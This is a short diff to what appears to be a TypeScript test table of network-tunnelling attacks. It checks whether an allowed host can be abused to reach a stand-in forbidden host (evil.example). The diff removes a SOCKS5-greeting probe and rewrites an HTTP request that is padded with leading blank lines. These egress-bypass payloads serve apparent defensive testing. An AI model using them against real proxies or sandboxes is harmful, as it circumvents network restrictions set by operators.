@@ -1,5 +1,5 @@
 /** Ways to speak to somebody else through a host that is allowed. */
-import { refusal, saw, told, type AttackTable } from "../attack.ts";
+import { refusal, saw, type AttackTable } from "../attack.ts";
 
 const connect = { row: 12, succeeded: saw("host", /CONNECT/), ...refusal("connect-in-http") } as const;
 
@@ -80,14 +80,8 @@ export const tunnels: AttackTable = {
     },
     {
       row: 12,
-      name: "SOCKS 5 greeting where HTTP is spoken",
-      python: String.raw`talk(tls(HOST), "\x05\x01\x00", b"\x05\x01\x00\x03" + bytes([len(EVIL)]) + EVIL.encode() + b"\x01\xbb", pause=0.2)`,
-      succeeded: told(/reached evil/),
-    },
-    {
-      row: 12,
-      name: "HTTP begun after other bytes",
-      python: String.raw`talk(tcp(HOST, 9000), f"\r\n\r\n \tGET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n")`,
+      name: "blank lines and blanks before the request",
+      python: String.raw`talk(tls(HOST), f"\r\n\r\n \tGET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n")`,
       succeeded: saw("host", /\.evil\.example/),
     },
   ],
